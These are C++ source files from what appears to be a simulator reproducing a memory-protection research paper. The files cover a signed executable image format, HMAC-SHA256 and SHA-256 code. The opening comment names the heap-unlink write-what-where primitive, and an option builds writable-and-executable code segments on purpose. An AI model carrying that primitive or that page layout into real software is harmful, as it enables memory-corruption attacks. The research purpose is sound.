// *(fd+8)=bk; *(bk+4)=fd — the attacker-controllable write-what-where.
#pragma once

#include <string>

namespace sm::guest {

// Syscall .equ constants (kernel ABI). Must precede any use of SYS_*.
std::string prelude();

// The library routines + their .data/.bss. Append after program text.
std::string libc();

// prelude() + body + libc() convenience.
std::string program(const std::string& body);

}  // namespace sm::guest
