#include "image/image.h"

#include <cstring>
#include <stdexcept>

#include "image/sha256.h"

namespace sm::image {

namespace {

constexpr u32 kMagic = 0x464C4553;  // "SELF"
constexpr u32 kVersion = 1;

void put32(std::vector<u8>& out, u32 v) {
  for (int i = 0; i < 4; ++i) out.push_back(static_cast<u8>(v >> (8 * i)));
}

void put_str(std::vector<u8>& out, const std::string& s) {
  put32(out, static_cast<u32>(s.size()));
  out.insert(out.end(), s.begin(), s.end());
}

void put_blob(std::vector<u8>& out, const std::vector<u8>& b) {
  put32(out, static_cast<u32>(b.size()));
  out.insert(out.end(), b.begin(), b.end());
}

class Reader {
 public:
  explicit Reader(const std::vector<u8>& bytes) : bytes_(bytes) {}

  u32 get32() {
    need(4);
    u32 v = 0;
    std::memcpy(&v, &bytes_[pos_], 4);
    pos_ += 4;
    return v;
  }
  std::string get_str() {
    const u32 n = get32();
    need(n);
    std::string s(bytes_.begin() + pos_, bytes_.begin() + pos_ + n);
    pos_ += n;
    return s;
  }
  std::vector<u8> get_blob() {
    const u32 n = get32();
    need(n);
    std::vector<u8> b(bytes_.begin() + pos_, bytes_.begin() + pos_ + n);
    pos_ += n;
    return b;
  }
  bool done() const { return pos_ == bytes_.size(); }

 private:
  void need(std::size_t n) {
    if (pos_ + n > bytes_.size()) {
      throw std::runtime_error("truncated image");
    }
  }
  const std::vector<u8>& bytes_;
  std::size_t pos_ = 0;
};

}  // namespace

u32 Image::symbol(const std::string& n) const {
  const auto it = symbols.find(n);
  if (it == symbols.end()) throw std::out_of_range("no such symbol: " + n);
  return it->second;
}

std::vector<u8> Image::signed_payload() const {
  std::vector<u8> out;
  put32(out, kMagic);
  put32(out, kVersion);
  put_str(out, name);
  put32(out, entry);
  put32(out, static_cast<u32>(segments.size()));
  for (const Segment& s : segments) {
    put_str(out, s.name);
    put32(out, s.vaddr);
    put32(out, s.mem_size);
    put32(out, s.prot);
    put_blob(out, s.bytes);
  }
  put32(out, static_cast<u32>(symbols.size()));
  for (const auto& [sym, addr] : symbols) {
    put_str(out, sym);
    put32(out, addr);
  }
  return out;
}

std::vector<u8> Image::serialize() const {
  std::vector<u8> out = signed_payload();
  put_blob(out, signature);
  return out;
}

Image Image::deserialize(const std::vector<u8>& bytes) {
  Reader r(bytes);
  if (r.get32() != kMagic) throw std::runtime_error("bad image magic");
  if (r.get32() != kVersion) throw std::runtime_error("bad image version");
  Image img;
  img.name = r.get_str();
  img.entry = r.get32();
  const u32 nsegs = r.get32();
  for (u32 i = 0; i < nsegs; ++i) {
    Segment s;
    s.name = r.get_str();
    s.vaddr = r.get32();
    s.mem_size = r.get32();
    s.prot = r.get32();
    s.bytes = r.get_blob();
    if (s.bytes.size() > s.mem_size) {
      throw std::runtime_error("segment bytes exceed mem_size");
    }
    img.segments.push_back(std::move(s));
  }
  const u32 nsyms = r.get32();
  for (u32 i = 0; i < nsyms; ++i) {
    const std::string sym = r.get_str();
    img.symbols[sym] = r.get32();
  }
  img.signature = r.get_blob();
  if (!r.done()) throw std::runtime_error("trailing bytes in image");
  return img;
}

void Image::sign(const std::vector<u8>& key) {
  const auto payload = signed_payload();
  const Digest mac = hmac_sha256(key, payload);
  signature.assign(mac.begin(), mac.end());
}

bool Image::verify(const std::vector<u8>& key) const {
  if (signature.size() != 32) return false;
  const auto payload = signed_payload();
  const Digest mac = hmac_sha256(key, payload);
  // Constant-time comparison (defensive habit; no timing channel here).
  u8 diff = 0;
  for (std::size_t i = 0; i < mac.size(); ++i) {
    diff |= static_cast<u8>(mac[i] ^ signature[i]);
  }
  return diff == 0;
}

Image build_image(const assembler::Program& program,
                  const BuildOptions& opts) {
  Image img;
  img.name = opts.name;
  img.symbols = program.symbols;

  if (!program.text.empty()) {
    Segment text;
    text.name = "text";
    text.vaddr = program.layout.text_base;
    text.bytes = program.text;
    text.mem_size = static_cast<u32>(program.text.size());
    text.prot = kProtRead | kProtExec | (opts.mixed_text ? kProtWrite : 0u);
    img.segments.push_back(std::move(text));
  }
  if (!program.data.empty()) {
    Segment data;
    data.name = "data";
    data.vaddr = program.layout.data_base;
    data.bytes = program.data;
    data.mem_size = static_cast<u32>(program.data.size());
    data.prot = kProtRead | kProtWrite;
    img.segments.push_back(std::move(data));
  }
  if (program.bss_size != 0) {
    Segment bss;
    bss.name = "bss";
    bss.vaddr = program.layout.bss_base;
    bss.mem_size = program.bss_size;
    bss.prot = kProtRead | kProtWrite;
    img.segments.push_back(std::move(bss));
  }

  if (program.has_symbol(opts.entry_symbol)) {
    img.entry = program.symbol(opts.entry_symbol);
  } else {
    img.entry = program.layout.text_base;
  }
  return img;
}

}  // namespace sm::image
