// SimpleELF: the executable image format understood by the kernel loader.
//
// A stand-in for ELF (paper §5.1): an image is a set of segments, each with
// a virtual address, protection flags and initialized bytes (mem_size may
// exceed the bytes for bss-style zero fill), plus an entry point and a
// symbol table. Images can be serialized, and signed/verified with
// HMAC-SHA256 (the DigSig-style binary signing of paper §4.3).
#pragma once

#include <map>
#include <optional>
#include <string>
#include <vector>

#include "arch/types.h"
#include "asm/assembler.h"

namespace sm::image {

using arch::u32;
using arch::u8;

// Segment protection bits (match the guest mmap/mprotect prot encoding).
inline constexpr u32 kProtRead = 1;
inline constexpr u32 kProtWrite = 2;
inline constexpr u32 kProtExec = 4;

struct Segment {
  std::string name;
  u32 vaddr = 0;
  u32 mem_size = 0;  // >= bytes.size(); remainder is zero-filled
  u32 prot = kProtRead;
  std::vector<u8> bytes;

  bool executable() const { return prot & kProtExec; }
  bool writable() const { return prot & kProtWrite; }
  // A segment is "mixed" when it is both writable and executable — the page
  // layout the execute-disable bit cannot protect (paper §2, Fig. 1b).
  bool mixed() const { return executable() && writable(); }
};

struct Image {
  std::string name = "a.out";
  u32 entry = 0;
  std::vector<Segment> segments;
  std::map<std::string, u32> symbols;
  std::vector<u8> signature;  // HMAC-SHA256; empty if unsigned

  u32 symbol(const std::string& n) const;
  bool has_symbol(const std::string& n) const { return symbols.contains(n); }

  // Canonical byte serialization. The signature field is excluded from the
  // signed payload (signing covers everything else).
  std::vector<u8> serialize() const;
  static Image deserialize(const std::vector<u8>& bytes);

  std::vector<u8> signed_payload() const;
  void sign(const std::vector<u8>& key);
  bool verify(const std::vector<u8>& key) const;
};

// Options controlling how an assembled Program becomes an Image.
struct BuildOptions {
  std::string name = "a.out";
  std::string entry_symbol = "_start";
  // When true the text segment is writable as well as executable, creating
  // mixed code-and-data pages (JavaVM / kernel-module style, paper Fig. 1b).
  bool mixed_text = false;
};

// Wraps an assembled Program into an Image with text/data/bss segments.
Image build_image(const assembler::Program& program,
                  const BuildOptions& opts = {});

}  // namespace sm::image
