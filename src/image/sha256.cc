#include "image/sha256.h"

#include <cstring>
#include <string>

namespace sm::image {

namespace {

using arch::u32;
using arch::u64;
using arch::u8;

constexpr u32 kK[64] = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1,
    0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3,
    0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
    0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147,
    0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
    0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
    0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
    0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208,
    0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2};

u32 rotr(u32 x, u32 n) { return (x >> n) | (x << (32 - n)); }

struct Sha256Ctx {
  u32 h[8] = {0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a,
              0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19};
  u8 block[64];
  std::size_t block_len = 0;
  u64 total_len = 0;

  void compress(const u8* p) {
    u32 w[64];
    for (int i = 0; i < 16; ++i) {
      w[i] = (static_cast<u32>(p[4 * i]) << 24) |
             (static_cast<u32>(p[4 * i + 1]) << 16) |
             (static_cast<u32>(p[4 * i + 2]) << 8) |
             static_cast<u32>(p[4 * i + 3]);
    }
    for (int i = 16; i < 64; ++i) {
      const u32 s0 = rotr(w[i - 15], 7) ^ rotr(w[i - 15], 18) ^ (w[i - 15] >> 3);
      const u32 s1 = rotr(w[i - 2], 17) ^ rotr(w[i - 2], 19) ^ (w[i - 2] >> 10);
      w[i] = w[i - 16] + s0 + w[i - 7] + s1;
    }
    u32 a = h[0], b = h[1], c = h[2], d = h[3];
    u32 e = h[4], f = h[5], g = h[6], hh = h[7];
    for (int i = 0; i < 64; ++i) {
      const u32 s1 = rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25);
      const u32 ch = (e & f) ^ (~e & g);
      const u32 t1 = hh + s1 + ch + kK[i] + w[i];
      const u32 s0 = rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22);
      const u32 maj = (a & b) ^ (a & c) ^ (b & c);
      const u32 t2 = s0 + maj;
      hh = g;
      g = f;
      f = e;
      e = d + t1;
      d = c;
      c = b;
      b = a;
      a = t1 + t2;
    }
    h[0] += a;
    h[1] += b;
    h[2] += c;
    h[3] += d;
    h[4] += e;
    h[5] += f;
    h[6] += g;
    h[7] += hh;
  }

  void update(std::span<const u8> data) {
    total_len += data.size();
    for (u8 byte : data) {
      block[block_len++] = byte;
      if (block_len == 64) {
        compress(block);
        block_len = 0;
      }
    }
  }

  Digest final() {
    const u64 bit_len = total_len * 8;
    u8 pad = 0x80;
    update({&pad, 1});
    const u8 zero = 0;
    while (block_len != 56) update({&zero, 1});
    u8 len_bytes[8];
    for (int i = 0; i < 8; ++i) {
      len_bytes[i] = static_cast<u8>(bit_len >> (56 - 8 * i));
    }
    update({len_bytes, 8});
    Digest out;
    for (int i = 0; i < 8; ++i) {
      out[4 * i] = static_cast<u8>(h[i] >> 24);
      out[4 * i + 1] = static_cast<u8>(h[i] >> 16);
      out[4 * i + 2] = static_cast<u8>(h[i] >> 8);
      out[4 * i + 3] = static_cast<u8>(h[i]);
    }
    return out;
  }
};

}  // namespace

Digest sha256(std::span<const u8> data) {
  Sha256Ctx ctx;
  ctx.update(data);
  return ctx.final();
}

Digest hmac_sha256(std::span<const u8> key, std::span<const u8> data) {
  u8 k[64] = {};
  if (key.size() > 64) {
    const Digest kd = sha256(key);
    std::memcpy(k, kd.data(), kd.size());
  } else {
    std::memcpy(k, key.data(), key.size());
  }
  u8 ipad[64];
  u8 opad[64];
  for (int i = 0; i < 64; ++i) {
    ipad[i] = k[i] ^ 0x36;
    opad[i] = k[i] ^ 0x5c;
  }
  Sha256Ctx inner;
  inner.update({ipad, 64});
  inner.update(data);
  const Digest inner_digest = inner.final();
  Sha256Ctx outer;
  outer.update({opad, 64});
  outer.update({inner_digest.data(), inner_digest.size()});
  return outer.final();
}

std::string hex_digest(const Digest& d) {
  static const char* kHex = "0123456789abcdef";
  std::string out;
  out.reserve(64);
  for (u8 b : d) {
    out += kHex[b >> 4];
    out += kHex[b & 0xF];
  }
  return out;
}

}  // namespace sm::image
