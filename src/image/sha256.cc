#include "image/sha256.h"

#include <cstring>
#include <string>

#if defined(__x86_64__) && (defined(__GNUC__) || defined(__clang__))
#include <immintrin.h>
#endif

namespace sm::image {

namespace {

using arch::u32;
using arch::u64;
using arch::u8;

constexpr u32 kK[64] = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1,
    0x923f82a4, 0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3,
    0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786,
    0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147,
    0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13,
    0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
    0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a,
    0x5b9cca4f, 0x682e6ff3, 0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208,
    0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2};

u32 rotr(u32 x, u32 n) { return (x >> n) | (x << (32 - n)); }

// x86 SHA extensions: four-round SHA256RNDS2 plus message-schedule helper
// instructions. Compiled with a per-function target attribute and selected
// at runtime via cpuid, so the binary still runs (scalar path) on CPUs and
// compilers without them. This is the standard two-lane (ABEF/CDGH) state
// layout from the Intel reference flow.
#if defined(__x86_64__) && (defined(__GNUC__) || defined(__clang__))
#define SM_SHA256_NI 1

__attribute__((target("sha,sse4.1,ssse3"))) void compress_blocks_ni(
    u32* state, const u8* data, std::size_t blocks) {
  const __m128i MASK =
      _mm_set_epi64x(0x0c0d0e0f08090a0bULL, 0x0405060700010203ULL);

  __m128i TMP = _mm_loadu_si128(reinterpret_cast<const __m128i*>(&state[0]));
  __m128i STATE1 =
      _mm_loadu_si128(reinterpret_cast<const __m128i*>(&state[4]));
  TMP = _mm_shuffle_epi32(TMP, 0xB1);          // CDAB
  STATE1 = _mm_shuffle_epi32(STATE1, 0x1B);    // EFGH
  __m128i STATE0 = _mm_alignr_epi8(TMP, STATE1, 8);  // ABEF
  STATE1 = _mm_blend_epi16(STATE1, TMP, 0xF0);       // CDGH

  while (blocks-- > 0) {
    const __m128i ABEF_SAVE = STATE0;
    const __m128i CDGH_SAVE = STATE1;
    __m128i MSG, MSG0, MSG1, MSG2, MSG3;

    // Rounds 0-3
    MSG = _mm_loadu_si128(reinterpret_cast<const __m128i*>(data + 0));
    MSG0 = _mm_shuffle_epi8(MSG, MASK);
    MSG = _mm_add_epi32(
        MSG0, _mm_set_epi64x(0xE9B5DBA5B5C0FBCFULL, 0x71374491428A2F98ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);

    // Rounds 4-7
    MSG1 = _mm_loadu_si128(reinterpret_cast<const __m128i*>(data + 16));
    MSG1 = _mm_shuffle_epi8(MSG1, MASK);
    MSG = _mm_add_epi32(
        MSG1, _mm_set_epi64x(0xAB1C5ED5923F82A4ULL, 0x59F111F13956C25BULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG0 = _mm_sha256msg1_epu32(MSG0, MSG1);

    // Rounds 8-11
    MSG2 = _mm_loadu_si128(reinterpret_cast<const __m128i*>(data + 32));
    MSG2 = _mm_shuffle_epi8(MSG2, MASK);
    MSG = _mm_add_epi32(
        MSG2, _mm_set_epi64x(0x550C7DC3243185BEULL, 0x12835B01D807AA98ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG1 = _mm_sha256msg1_epu32(MSG1, MSG2);

    // Rounds 12-15
    MSG3 = _mm_loadu_si128(reinterpret_cast<const __m128i*>(data + 48));
    MSG3 = _mm_shuffle_epi8(MSG3, MASK);
    MSG = _mm_add_epi32(
        MSG3, _mm_set_epi64x(0xC19BF1749BDC06A7ULL, 0x80DEB1FE72BE5D74ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG3, MSG2, 4);
    MSG0 = _mm_add_epi32(MSG0, TMP);
    MSG0 = _mm_sha256msg2_epu32(MSG0, MSG3);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG2 = _mm_sha256msg1_epu32(MSG2, MSG3);

    // Rounds 16-19
    MSG = _mm_add_epi32(
        MSG0, _mm_set_epi64x(0x240CA1CC0FC19DC6ULL, 0xEFBE4786E49B69C1ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG0, MSG3, 4);
    MSG1 = _mm_add_epi32(MSG1, TMP);
    MSG1 = _mm_sha256msg2_epu32(MSG1, MSG0);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG3 = _mm_sha256msg1_epu32(MSG3, MSG0);

    // Rounds 20-23
    MSG = _mm_add_epi32(
        MSG1, _mm_set_epi64x(0x76F988DA5CB0A9DCULL, 0x4A7484AA2DE92C6FULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG1, MSG0, 4);
    MSG2 = _mm_add_epi32(MSG2, TMP);
    MSG2 = _mm_sha256msg2_epu32(MSG2, MSG1);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG0 = _mm_sha256msg1_epu32(MSG0, MSG1);

    // Rounds 24-27
    MSG = _mm_add_epi32(
        MSG2, _mm_set_epi64x(0xBF597FC7B00327C8ULL, 0xA831C66D983E5152ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG2, MSG1, 4);
    MSG3 = _mm_add_epi32(MSG3, TMP);
    MSG3 = _mm_sha256msg2_epu32(MSG3, MSG2);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG1 = _mm_sha256msg1_epu32(MSG1, MSG2);

    // Rounds 28-31
    MSG = _mm_add_epi32(
        MSG3, _mm_set_epi64x(0x1429296706CA6351ULL, 0xD5A79147C6E00BF3ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG3, MSG2, 4);
    MSG0 = _mm_add_epi32(MSG0, TMP);
    MSG0 = _mm_sha256msg2_epu32(MSG0, MSG3);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG2 = _mm_sha256msg1_epu32(MSG2, MSG3);

    // Rounds 32-35
    MSG = _mm_add_epi32(
        MSG0, _mm_set_epi64x(0x53380D134D2C6DFCULL, 0x2E1B213827B70A85ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG0, MSG3, 4);
    MSG1 = _mm_add_epi32(MSG1, TMP);
    MSG1 = _mm_sha256msg2_epu32(MSG1, MSG0);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG3 = _mm_sha256msg1_epu32(MSG3, MSG0);

    // Rounds 36-39
    MSG = _mm_add_epi32(
        MSG1, _mm_set_epi64x(0x92722C8581C2C92EULL, 0x766A0ABB650A7354ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG1, MSG0, 4);
    MSG2 = _mm_add_epi32(MSG2, TMP);
    MSG2 = _mm_sha256msg2_epu32(MSG2, MSG1);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG0 = _mm_sha256msg1_epu32(MSG0, MSG1);

    // Rounds 40-43
    MSG = _mm_add_epi32(
        MSG2, _mm_set_epi64x(0xC76C51A3C24B8B70ULL, 0xA81A664BA2BFE8A1ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG2, MSG1, 4);
    MSG3 = _mm_add_epi32(MSG3, TMP);
    MSG3 = _mm_sha256msg2_epu32(MSG3, MSG2);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG1 = _mm_sha256msg1_epu32(MSG1, MSG2);

    // Rounds 44-47
    MSG = _mm_add_epi32(
        MSG3, _mm_set_epi64x(0x106AA070F40E3585ULL, 0xD6990624D192E819ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG3, MSG2, 4);
    MSG0 = _mm_add_epi32(MSG0, TMP);
    MSG0 = _mm_sha256msg2_epu32(MSG0, MSG3);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG2 = _mm_sha256msg1_epu32(MSG2, MSG3);

    // Rounds 48-51
    MSG = _mm_add_epi32(
        MSG0, _mm_set_epi64x(0x34B0BCB52748774CULL, 0x1E376C0819A4C116ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG0, MSG3, 4);
    MSG1 = _mm_add_epi32(MSG1, TMP);
    MSG1 = _mm_sha256msg2_epu32(MSG1, MSG0);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);
    MSG3 = _mm_sha256msg1_epu32(MSG3, MSG0);

    // Rounds 52-55
    MSG = _mm_add_epi32(
        MSG1, _mm_set_epi64x(0x682E6FF35B9CCA4FULL, 0x4ED8AA4A391C0CB3ULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG1, MSG0, 4);
    MSG2 = _mm_add_epi32(MSG2, TMP);
    MSG2 = _mm_sha256msg2_epu32(MSG2, MSG1);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);

    // Rounds 56-59
    MSG = _mm_add_epi32(
        MSG2, _mm_set_epi64x(0x8CC7020884C87814ULL, 0x78A5636F748F82EEULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    TMP = _mm_alignr_epi8(MSG2, MSG1, 4);
    MSG3 = _mm_add_epi32(MSG3, TMP);
    MSG3 = _mm_sha256msg2_epu32(MSG3, MSG2);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);

    // Rounds 60-63
    MSG = _mm_add_epi32(
        MSG3, _mm_set_epi64x(0xC67178F2BEF9A3F7ULL, 0xA4506CEB90BEFFFAULL));
    STATE1 = _mm_sha256rnds2_epu32(STATE1, STATE0, MSG);
    MSG = _mm_shuffle_epi32(MSG, 0x0E);
    STATE0 = _mm_sha256rnds2_epu32(STATE0, STATE1, MSG);

    STATE0 = _mm_add_epi32(STATE0, ABEF_SAVE);
    STATE1 = _mm_add_epi32(STATE1, CDGH_SAVE);
    data += 64;
  }

  TMP = _mm_shuffle_epi32(STATE0, 0x1B);        // FEBA
  STATE1 = _mm_shuffle_epi32(STATE1, 0xB1);     // DCHG
  STATE0 = _mm_blend_epi16(TMP, STATE1, 0xF0);  // DCBA
  STATE1 = _mm_alignr_epi8(STATE1, TMP, 8);     // HGFE

  _mm_storeu_si128(reinterpret_cast<__m128i*>(&state[0]), STATE0);
  _mm_storeu_si128(reinterpret_cast<__m128i*>(&state[4]), STATE1);
}

bool cpu_has_sha_ni() {
  static const bool ok = __builtin_cpu_supports("sha") &&
                         __builtin_cpu_supports("sse4.1") &&
                         __builtin_cpu_supports("ssse3");
  return ok;
}
#endif  // SM_SHA256_NI

}  // namespace

void Sha256::compress(const u8* p) {
  u32 w[64];
  for (int i = 0; i < 16; ++i) {
    w[i] = (static_cast<u32>(p[4 * i]) << 24) |
           (static_cast<u32>(p[4 * i + 1]) << 16) |
           (static_cast<u32>(p[4 * i + 2]) << 8) |
           static_cast<u32>(p[4 * i + 3]);
  }
  for (int i = 16; i < 64; ++i) {
    const u32 s0 = rotr(w[i - 15], 7) ^ rotr(w[i - 15], 18) ^ (w[i - 15] >> 3);
    const u32 s1 = rotr(w[i - 2], 17) ^ rotr(w[i - 2], 19) ^ (w[i - 2] >> 10);
    w[i] = w[i - 16] + s0 + w[i - 7] + s1;
  }
  u32 a = h_[0], b = h_[1], c = h_[2], d = h_[3];
  u32 e = h_[4], f = h_[5], g = h_[6], hh = h_[7];
  for (int i = 0; i < 64; ++i) {
    const u32 s1 = rotr(e, 6) ^ rotr(e, 11) ^ rotr(e, 25);
    const u32 ch = (e & f) ^ (~e & g);
    const u32 t1 = hh + s1 + ch + kK[i] + w[i];
    const u32 s0 = rotr(a, 2) ^ rotr(a, 13) ^ rotr(a, 22);
    const u32 maj = (a & b) ^ (a & c) ^ (b & c);
    const u32 t2 = s0 + maj;
    hh = g;
    g = f;
    f = e;
    e = d + t1;
    d = c;
    c = b;
    b = a;
    a = t1 + t2;
  }
  h_[0] += a;
  h_[1] += b;
  h_[2] += c;
  h_[3] += d;
  h_[4] += e;
  h_[5] += f;
  h_[6] += g;
  h_[7] += hh;
}

void Sha256::update(std::span<const u8> data) {
  total_len_ += data.size();
  const u8* p = data.data();
  std::size_t n = data.size();
  // Top up a partial block first, then compress straight out of the input
  // 64 bytes at a time — no per-byte staging copy for bulk data.
  if (block_len_ != 0) {
    const std::size_t take = std::min(n, 64 - block_len_);
    std::memcpy(block_ + block_len_, p, take);
    block_len_ += take;
    p += take;
    n -= take;
    if (block_len_ == 64) {
      compress(block_);
      block_len_ = 0;
    }
  }
  if (const std::size_t blocks = n / 64; blocks > 0) {
#if defined(SM_SHA256_NI)
    if (cpu_has_sha_ni()) {
      compress_blocks_ni(h_, p, blocks);
      p += blocks * 64;
      n -= blocks * 64;
    }
#endif
    while (n >= 64) {
      compress(p);
      p += 64;
      n -= 64;
    }
  }
  if (n != 0) {
    std::memcpy(block_ + block_len_, p, n);
    block_len_ += n;
  }
}

Digest Sha256::final() {
  const u64 bit_len = total_len_ * 8;
  const u8 pad = 0x80;
  update({&pad, 1});
  const u8 zero = 0;
  while (block_len_ != 56) update({&zero, 1});
  u8 len_bytes[8];
  for (int i = 0; i < 8; ++i) {
    len_bytes[i] = static_cast<u8>(bit_len >> (56 - 8 * i));
  }
  update({len_bytes, 8});
  Digest out;
  for (int i = 0; i < 8; ++i) {
    out[4 * i] = static_cast<u8>(h_[i] >> 24);
    out[4 * i + 1] = static_cast<u8>(h_[i] >> 16);
    out[4 * i + 2] = static_cast<u8>(h_[i] >> 8);
    out[4 * i + 3] = static_cast<u8>(h_[i]);
  }
  return out;
}

Digest sha256(std::span<const u8> data) {
  Sha256 ctx;
  ctx.update(data);
  return ctx.final();
}

Digest hmac_sha256(std::span<const u8> key, std::span<const u8> data) {
  u8 k[64] = {};
  if (key.size() > 64) {
    const Digest kd = sha256(key);
    std::memcpy(k, kd.data(), kd.size());
  } else {
    std::memcpy(k, key.data(), key.size());
  }
  u8 ipad[64];
  u8 opad[64];
  for (int i = 0; i < 64; ++i) {
    ipad[i] = k[i] ^ 0x36;
    opad[i] = k[i] ^ 0x5c;
  }
  Sha256 inner;
  inner.update({ipad, 64});
  inner.update(data);
  const Digest inner_digest = inner.final();
  Sha256 outer;
  outer.update({opad, 64});
  outer.update({inner_digest.data(), inner_digest.size()});
  return outer.final();
}

std::string hex_digest(const Digest& d) {
  static const char* kHex = "0123456789abcdef";
  std::string out;
  out.reserve(64);
  for (u8 b : d) {
    out += kHex[b >> 4];
    out += kHex[b & 0xF];
  }
  return out;
}

}  // namespace sm::image
