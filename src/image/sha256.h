// Minimal SHA-256 and HMAC-SHA256 (FIPS 180-4 / RFC 2104).
//
// Used for DigSig-style binary signing (paper §4.3 defers to [28]; we
// implement the check so library/binary loading is actually gated on a
// valid signature in this reproduction).
#pragma once

#include <array>
#include <span>
#include <string>

#include "arch/types.h"

namespace sm::image {

using Digest = std::array<arch::u8, 32>;

Digest sha256(std::span<const arch::u8> data);
Digest hmac_sha256(std::span<const arch::u8> key,
                   std::span<const arch::u8> data);

std::string hex_digest(const Digest& d);

}  // namespace sm::image
