// Minimal SHA-256 and HMAC-SHA256 (FIPS 180-4 / RFC 2104).
//
// Used for DigSig-style binary signing (paper §4.3 defers to [28]; we
// implement the check so library/binary loading is actually gated on a
// valid signature in this reproduction).
#pragma once

#include <array>
#include <span>
